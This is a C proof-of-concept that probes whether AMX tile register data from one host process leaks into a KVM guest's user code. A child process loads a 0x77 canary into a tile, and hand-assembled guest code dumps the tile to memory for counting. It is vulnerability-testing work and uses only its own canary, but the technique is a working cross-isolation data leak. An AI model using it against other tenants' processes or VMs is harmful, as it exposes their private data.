// Probe: does AMX tile data cross from a host process into a guest's user code on this PVM host?
// ./amxleak [perm]   perm: the VMM asks ARCH_REQ_XCOMP_GUEST_PERM for tile data first
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/kvm.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#define MEMSZ (64ul<<20)
static void pin(){cpu_set_t s; CPU_ZERO(&s); CPU_SET(0,&s); sched_setaffinity(0,sizeof s,&s);}
static uint8_t cfg[64] __attribute__((aligned(64)));
static uint8_t tile[1024] __attribute__((aligned(64)));
int main(int argc,char**argv){
  int perm=argc>1;
  pid_t a=fork();
  if(a==0){ pin();
    if(syscall(SYS_arch_prctl,0x1023,18)!=0){perror("ARCH_REQ_XCOMP_PERM");_exit(1);}
    memset(cfg,0,64); cfg[0]=1; cfg[16]=64; cfg[48]=16; memset(tile,0x77,1024);
    __asm__ volatile("ldtilecfg %0"::"m"(cfg));
    __asm__ volatile("mov $64,%%rax; tileloadd (%0,%%rax,1),%%tmm0"::"r"(tile):"rax","memory");
    for(;;) sched_yield();
  }
  pin(); usleep(100000);
  if(perm && syscall(SYS_arch_prctl,0x1025,18)!=0) perror("ARCH_REQ_XCOMP_GUEST_PERM");
  int kvm=open("/dev/kvm",O_RDWR|O_CLOEXEC); int vm=ioctl(kvm,KVM_CREATE_VM,0);
  ioctl(vm,KVM_SET_TSS_ADDR,0xfffbd000);
  uint8_t*mem=mmap(NULL,MEMSZ,PROT_READ|PROT_WRITE,MAP_SHARED|MAP_ANONYMOUS|MAP_NORESERVE,-1,0);
  struct kvm_userspace_memory_region r={.slot=0,.guest_phys_addr=0,.memory_size=MEMSZ,.userspace_addr=(unsigned long)mem};
  ioctl(vm,KVM_SET_USER_MEMORY_REGION,&r);
  uint64_t*gdt=(uint64_t*)(mem+0x500); gdt[0]=0; gdt[1]=0x00af9b000000ffffull; gdt[2]=0x00cf93000000ffffull; gdt[3]=0x008f8b000000ffffull;
  gdt[4]=0x00cff3000000ffffull; gdt[5]=0x00affb000000ffffull;
  uint64_t*pml4=(uint64_t*)(mem+0x9000),*pdpt=(uint64_t*)(mem+0xa000),*pd=(uint64_t*)(mem+0xb000);
  pml4[0]=0xa000|7; pdpt[0]=0xb000|7; for(int i=0;i<32;i++) pd[i]=(i<<21)|0x87;
  int vcpu=ioctl(vm,KVM_CREATE_VCPU,0);
  struct kvm_run*run=mmap(NULL,ioctl(kvm,KVM_GET_VCPU_MMAP_SIZE,0),PROT_READ|PROT_WRITE,MAP_SHARED,vcpu,0);
  struct {struct kvm_cpuid2 c; struct kvm_cpuid_entry2 e[100];} cp={.c.nent=100};
  ioctl(kvm,KVM_GET_SUPPORTED_CPUID,&cp); ioctl(vcpu,KVM_SET_CPUID2,&cp);
  struct kvm_sregs s; ioctl(vcpu,KVM_GET_SREGS,&s);
  struct kvm_segment cs={.base=0,.limit=0xfffff,.selector=0x2b,.type=11,.present=1,.dpl=3,.s=1,.l=1,.g=1};
  struct kvm_segment ds={.base=0,.limit=0xfffff,.selector=0x23,.type=3,.present=1,.dpl=3,.db=1,.s=1,.g=1};
  struct kvm_segment tr={.base=0,.limit=0xfffff,.selector=0x18,.type=11,.present=1,.g=1};
  s.cs=cs; s.ds=s.es=s.fs=s.gs=s.ss=ds; s.tr=tr; s.gdt.base=0x500; s.gdt.limit=47;
  s.cr0=0x80000033; s.cr3=0x9000; s.cr4=0x20|0x600; s.efer=0x500; ioctl(vcpu,KVM_SET_SREGS,&s);
  uint8_t c[64]={0}; c[0]=1; c[16]=64; c[48]=16; memcpy(mem+0x4000,c,64);
  uint8_t code[]={
    0xc4,0xe2,0x78,0x49,0x04,0x25,0x00,0x40,0,0,   // ldtilecfg [0x4000] (zeroes tile data)
    0xe7,0x80,                                     // out: the host may now run the AMX process
    0xe7,0x80, 0xe7,0x80, 0xe7,0x80,
    0xbe,0x40,0,0,0,                               // mov esi,64
    0xbf,0x00,0x50,0,0,                            // mov edi,0x5000
    0xc4,0xe2,0x7a,0x4b,0x04,0x37,                 // tilestored [rdi+rsi],tmm0
    0xe7,0x81, 0xf4};
  memcpy(mem+0x3000,code,sizeof code);
  struct kvm_regs g={0}; g.rip=0x3000; g.rsp=0x8000; g.rflags=2; ioctl(vcpu,KVM_SET_REGS,&g);
  for(int i=0;i<8;i++){ if(ioctl(vcpu,KVM_RUN,0)<0){perror("run");break;}
    if(run->exit_reason!=KVM_EXIT_IO){printf("exit %d\n",run->exit_reason);break;}
    if(run->io.port==0x81)break; usleep(20000); }
  int n77=0; for(int i=0;i<1024;i++) n77+=mem[0x5000+i]==0x77;
  printf("perm=%d: guest read %d of 1024 tile bytes = 0x77 (host process's data); first byte %02x\n",perm,n77,mem[0x5000]);
  kill(a,SIGKILL); waitpid(a,0,0);
}
